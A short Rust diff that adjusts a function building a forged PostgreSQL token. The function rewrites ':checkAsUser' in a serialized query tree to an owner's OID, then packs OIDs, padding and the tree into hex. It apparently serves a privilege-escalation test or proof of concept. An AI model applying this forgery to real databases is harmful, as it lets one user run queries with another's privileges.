@@ -41,10 +41,10 @@ fn forged(stage: &mut Stage, client: &mut Client) -> String {
     let relation = of(stage, "SELECT 'visits'::regclass::oid::bigint");
     let tree = tree.replace(":checkAsUser 0", &format!(":checkAsUser {owner}"));
     let mut token = vec![0; 32];
-    for number in [1, analyst, relation, analyst] {
+    for number in [2, analyst, relation, analyst] {
         token.extend_from_slice(&u32::try_from(number).expect("an OID").to_le_bytes());
     }
-    token.extend_from_slice(&[0; 4 * 8 + 32]);
+    token.extend_from_slice(&[0; 5 * 8 + 32]);
     token.extend_from_slice(tree.as_bytes());
     let hex: String = token.iter().map(|byte| format!("{byte:02x}")).collect();
     format!(
